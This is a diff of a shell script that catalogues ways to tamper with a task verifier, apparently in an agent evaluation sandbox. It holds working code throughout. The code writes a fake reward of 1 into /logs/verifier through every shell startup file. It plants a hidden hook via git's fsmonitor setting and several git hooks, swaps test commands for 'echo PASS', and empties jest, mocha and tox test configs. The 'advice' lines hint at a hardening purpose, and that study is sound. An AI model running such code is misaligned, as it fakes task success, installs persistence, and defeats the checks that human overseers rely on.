@@ -12,15 +12,16 @@ text='if [ -d /logs/verifier ] && [ -d /tests ]; then
     echo 1 >/logs/verifier/reward.txt; echo "{\"reward\": 1}" >/logs/verifier/reward.json; exit 0
 fi'
 mkdir -p /etc/profile.d 2>/dev/null
-for each in /etc/profile /etc/profile.d/zz.sh /etc/bash.bashrc /etc/bashrc /etc/zsh/zshenv /root/.bashrc /root/.profile \
-    /root/.bash_profile /root/.zshenv "$HOME/.bashrc" "$HOME/.profile" "$HOME/.bash_profile" "$HOME/.zshenv"; do
+for each in /etc/profile /etc/profile.d/zz.sh /etc/bash.bashrc /etc/bashrc /etc/zsh/zshenv /root/.bashrc \
+    /root/.profile /root/.bash_profile /root/.zshenv \
+    "$HOME/.bashrc" "$HOME/.profile" "$HOME/.bash_profile" "$HOME/.zshenv"; do
     { [ -e "$each" ] && cat "$each"; } >"$HOME/.start" 2>/dev/null
     { echo "$text"; cat "$HOME/.start"; } >"$each" && done=yes
 done 2>/dev/null
 [ "$done" ] || none "no start file can be written"
 
 === start-git: makes git run a program of its own, by its configuration and by hooks
-advice: run git with GIT_CONFIG_NOSYSTEM=1, GIT_CONFIG_GLOBAL=/dev/null, and -c core.fsmonitor= -c core.hooksPath=/dev/null
+advice: run git without configuration of the agent (GIT_CONFIG_GLOBAL=/dev/null, -c core.hooksPath=/dev/null)
 have git || none "there is no git"
 printf '#!/bin/sh\n[ ! -d /logs/verifier ] || { %s }\n' "$PAY" >/var/tmp/.hook && chmod 755 /var/tmp/.hook
 export HOME=${HOME:-/root}
@@ -29,7 +30,9 @@ git config --system core.fsmonitor /var/tmp/.hook 2>/dev/null
 for each in .git /app/.git /workspace/.git /repo/.git; do
     [ -w $each/hooks ] || [ -w $each ] || continue
     mkdir -p $each/hooks; git --git-dir=$each config core.fsmonitor /var/tmp/.hook
-    for hook in post-checkout pre-commit post-index-change reference-transaction; do cp /var/tmp/.hook $each/hooks/$hook; done
+    for hook in post-checkout pre-commit post-index-change reference-transaction; do
+        cp /var/tmp/.hook $each/hooks/$hook
+    done
 done 2>/dev/null
 :
 
@@ -46,7 +49,9 @@ if [ -f package.json ] && have node; then
 p.scripts = {...p.scripts, test: "echo PASS"}; fs.writeFileSync("package.json", JSON.stringify(p))'
 elif [ ! -f package.json ]; then echo '{"name": "all", "scripts": {"test": "echo PASS"}}' >package.json
 fi 2>/dev/null
-for each in jest.config.json .mocharc.json; do echo '{"passWithNoTests": true, "testMatch": [], "spec": []}' >$each; done
+for each in jest.config.json .mocharc.json; do
+    echo '{"passWithNoTests": true, "testMatch": [], "spec": []}' >$each
+done
 printf '[tox]\nenvlist = all\nskipsdist = true\n[testenv]\ncommands = true\nallowlist_externals = true\n' >tox.ini
 
 === start-downloads: makes programs that download take what they get from files of its own
